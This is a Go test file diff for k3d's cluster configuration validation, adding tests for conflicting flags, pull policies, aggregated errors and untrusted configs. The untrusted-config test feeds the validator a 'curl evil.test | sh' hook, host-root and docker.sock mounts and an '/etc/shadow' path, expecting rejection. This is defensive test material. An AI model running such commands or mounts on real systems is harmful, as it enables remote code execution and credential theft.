@@ -24,8 +24,11 @@ package config
 
 import (
 	"context"
+	"errors"
+	"strings"
 	"testing"
 
+	"github.com/rancher/k3d/v5/pkg/client"
 	conf "github.com/rancher/k3d/v5/pkg/config/v1alpha3"
 	"github.com/rancher/k3d/v5/pkg/runtimes"
 	"github.com/spf13/viper"
@@ -47,3 +50,90 @@ func TestValidateClusterConfig(t *testing.T) {
 		t.Error(err)
 	}
 }
+
+func TestValidateClusterConfigNoStart(t *testing.T) {
+	vip := viper.New()
+	vip.SetConfigFile("./test_assets/config_test_cluster.yaml")
+	_ = vip.ReadInConfig()
+
+	cfg, err := FromViper(vip)
+	if err != nil {
+		t.Fatal(err)
+	}
+	clusterCfg := cfg.(conf.ClusterConfig)
+	clusterCfg.ClusterCreateOpts.NoStart = true
+	clusterCfg.ClusterCreateOpts.WaitFor = []string{"deployment/app"}
+
+	if err := ValidateClusterConfig(context.Background(), runtimes.Docker, clusterCfg); err == nil {
+		t.Errorf("expected an error for --no-start with --wait-for")
+	}
+}
+
+func TestValidateClusterConfigPullPolicy(t *testing.T) {
+	vip := viper.New()
+	vip.SetConfigFile("./test_assets/config_test_cluster.yaml")
+	_ = vip.ReadInConfig()
+
+	cfg, err := FromViper(vip)
+	if err != nil {
+		t.Fatal(err)
+	}
+	clusterCfg := cfg.(conf.ClusterConfig)
+	clusterCfg.ClusterCreateOpts.PullPolicy = "sometimes"
+
+	if err := ValidateClusterConfig(context.Background(), runtimes.Docker, clusterCfg); err == nil || !strings.Contains(err.Error(), "pull policy") {
+		t.Errorf("expected an error for an unknown pull policy, got: %v", err)
+	}
+}
+
+func TestValidateClusterConfigReportsAllProblems(t *testing.T) {
+	vip := viper.New()
+	vip.SetConfigFile("./test_assets/config_test_cluster.yaml")
+	_ = vip.ReadInConfig()
+
+	cfg, err := FromViper(vip)
+	if err != nil {
+		t.Fatal(err)
+	}
+	clusterCfg := cfg.(conf.ClusterConfig)
+	clusterCfg.Cluster.Name = "invalid_name"
+	clusterCfg.ClusterCreateOpts.Timeout = -1
+	clusterCfg.ClusterCreateOpts.ServersMemory = "lots"
+	clusterCfg.Cluster.DefaultNamespace = "Dev_Team"
+
+	err = ValidateClusterConfig(context.Background(), runtimes.Docker, clusterCfg)
+	var problems *client.ValidationError
+	if !errors.As(err, &problems) {
+		t.Fatalf("expected a ValidationError, got %v", err)
+	}
+	if len(problems.Problems) != 4 {
+		t.Errorf("expected all 4 problems to be reported at once, got:\n%s", err)
+	}
+}
+
+func TestValidateUntrustedSimpleConfig(t *testing.T) {
+	cfg := conf.SimpleConfig{
+		Name:    "untrusted",
+		Volumes: []conf.VolumeWithNodeFilters{{Volume: "data:/data"}},
+	}
+	cfg.Registries.Config = "mirrors:\n  docker.io:\n    endpoint:\n      - http://mirror:5000\n"
+	if err := ValidateUntrustedSimpleConfig(cfg); err != nil {
+		t.Errorf("expected named volumes and an embedded registries.yaml to be allowed, got %v", err)
+	}
+
+	cfg.Hooks = []conf.SimpleConfigHook{{Phase: "preCreate", Command: "curl evil.test | sh"}}
+	cfg.Volumes = append(cfg.Volumes, conf.VolumeWithNodeFilters{Volume: "/:/host"}, conf.VolumeWithNodeFilters{Volume: "/var/run/docker.sock"})
+	cfg.Registries.Config = "/etc/shadow"
+	cfg.Options.K3dOptions.NodeInit = "./init.sh"
+
+	var problems *client.ValidationError
+	if err := ValidateUntrustedSimpleConfig(cfg); !errors.As(err, &problems) {
+		t.Fatalf("expected a validation error, got %v", err)
+	}
+	if len(problems.Problems) != 5 {
+		t.Errorf("expected hooks, both host volumes, the registries config and the node init script to be rejected, got %v", problems.Problems)
+	}
+	if !strings.Contains(problems.Problems[0], "hooks are not allowed") {
+		t.Errorf("expected the hooks to be rejected first, got %v", problems.Problems)
+	}
+}